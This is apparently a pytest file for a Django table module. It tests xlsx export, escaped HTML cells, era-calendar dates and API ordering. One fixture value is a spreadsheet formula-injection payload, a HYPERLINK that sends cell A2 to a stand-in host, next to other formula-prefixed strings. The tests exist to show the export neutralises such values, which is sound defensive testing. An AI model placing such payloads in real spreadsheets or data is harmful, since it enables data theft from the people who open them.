"""The one list mechanism: typed cells in the sheet, the page's cells, the API's ordering."""

import datetime
from io import BytesIO
from types import SimpleNamespace

import pytest
from django.test import RequestFactory
from openpyxl import load_workbook

from yorisoi.core.tables import (
    CHOICE,
    DATE,
    DATETIME,
    NUMBER,
    Column,
    Table,
    TableOrdering,
    xlsx_query,
)

ROW = SimpleNamespace(
    pk=7,
    name='=HYPERLINK("http://example.invalid/?"&A2,"押して")',
    note="+81 は国番号",
    sign="-1",
    mention="@担当",
    tabbed="\t=1+1",
    day=datetime.date(2025, 4, 1),
    at=datetime.datetime(2025, 4, 1, 5, 5, tzinfo=datetime.UTC),
    count=1234,
    tags=["電話", "訪問"],
    blank=None,
    control="改行\x0bあり",
    status="active",
    get_status_display=lambda: "支援中",
)

TABLE = Table(
    "sample",
    "見本",
    [
        Column("name", "氏名", link=lambda row: f"/rows/{row.pk}/"),
        Column("note", "メモ", under="name"),
        Column("sign", "符号"),
        Column("mention", "宛先"),
        Column("tabbed", "タブ"),
        Column("day", "日付", kind=DATE, order_by="day"),
        Column("at", "日時", kind=DATETIME),
        Column("count", "件数", kind=NUMBER, order_by=("count", "day")),
        Column("tags", "方法"),
        Column("blank", "空", empty="—"),
        Column("control", "制御文字", page=False),
        Column("status", "状況", kind=CHOICE, css=lambda row: f"status status--{row.status}"),
    ],
)


def _sheet(rows):
    return load_workbook(BytesIO(TABLE.workbook(rows))).active


def _cells_by_header(sheet):
    headers = [c.value for c in sheet[1]]
    return {h: sheet.cell(row=2, column=i + 1) for i, h in enumerate(headers)}


def test_text_that_starts_like_a_formula_stays_text_in_the_sheet():
    cells = _cells_by_header(_sheet([ROW]))
    for header in ("氏名", "メモ", "符号", "宛先", "タブ"):
        assert cells[header].data_type == "s", header
        assert cells[header].quotePrefix, header
    assert cells["氏名"].value == ROW.name
    assert cells["タブ"].value == "\t=1+1"


def test_plain_text_has_no_quote_prefix():
    cells = _cells_by_header(_sheet([ROW]))
    assert cells["方法"].value == "電話、訪問"
    assert not cells["方法"].quotePrefix


def test_dates_are_written_in_wareki_and_as_real_dates():
    cells = _cells_by_header(_sheet([ROW]))
    assert cells["日付"].value == "令和7年4月1日"
    assert cells["日付（西暦）"].value == datetime.datetime(2025, 4, 1)
    assert cells["日付（西暦）"].number_format == "yyyy-mm-dd"
    # Local time (Asia/Tokyo): 05:05 UTC is 14:05 on the page and in the sheet.
    assert cells["日時"].value == "令和7年4月1日 14:05"
    assert cells["日時（西暦）"].value == datetime.datetime(2025, 4, 1, 14, 5)
    assert cells["日時（西暦）"].number_format == "yyyy-mm-dd hh:mm"


def test_numbers_are_numbers_and_choices_their_labels():
    cells = _cells_by_header(_sheet([ROW]))
    assert cells["件数"].value == 1234
    assert cells["件数"].data_type == "n"
    assert cells["状況"].value == "支援中"


def test_characters_excel_refuses_are_dropped_not_fatal():
    assert _cells_by_header(_sheet([ROW]))["制御文字"].value == "改行あり"


def test_the_header_row_is_frozen_and_bold():
    sheet = _sheet([ROW])
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.b


def test_an_empty_list_is_a_sheet_of_headers():
    sheet = _sheet([])
    assert sheet.max_row == 1
    assert sheet["A1"].value == "氏名"


def test_page_cells_escape_link_and_stack():
    (row,) = TABLE.page_rows([ROW])
    html = {cell.column.name: str(cell.html) for cell in row.cells}
    assert "note" not in html  # shown under the name, not as a column
    assert html["name"].startswith('<a href="/rows/7/">=HYPERLINK(&quot;')
    assert '<small class="cell__sub">+81 は国番号</small>' in html["name"]
    assert '<time datetime="2025-04-01">令和7年4月1日</time>' in html["day"]
    assert '<span class="iso">(2025-04-01)</span>' in html["day"]
    assert "14:05" in html["at"]
    assert html["count"] == "1,234"
    assert html["blank"] == "—"
    assert html["status"] == '<span class="status status--active">支援中</span>'
    assert "control" not in html


def test_a_column_under_an_unknown_one_is_refused():
    with pytest.raises(ValueError, match="unknown"):
        Table("t", "t", [Column("a", "A", under="b")])


def test_the_download_link_keeps_the_filter_and_drops_the_page():
    request = RequestFactory().get("/", {"status": "active", "page": "3"})
    assert xlsx_query(request) == "status=active&format=xlsx"


def test_api_ordering_uses_the_declared_paths():
    view = SimpleNamespace(table=TABLE)
    ordering = TableOrdering()
    request = SimpleNamespace(query_params={"ordering": "-count,name,day"})

    class Recorder:
        def order_by(self, *fields):
            return fields

    assert ordering.filter_queryset(request, Recorder(), view) == ("-count", "-day", "day", "pk")


def test_api_ordering_ignores_undeclared_columns():
    view = SimpleNamespace(table=TABLE)
    request = SimpleNamespace(query_params={"ordering": "name"})
    queryset = object()
    assert TableOrdering().filter_queryset(request, queryset, view) is queryset
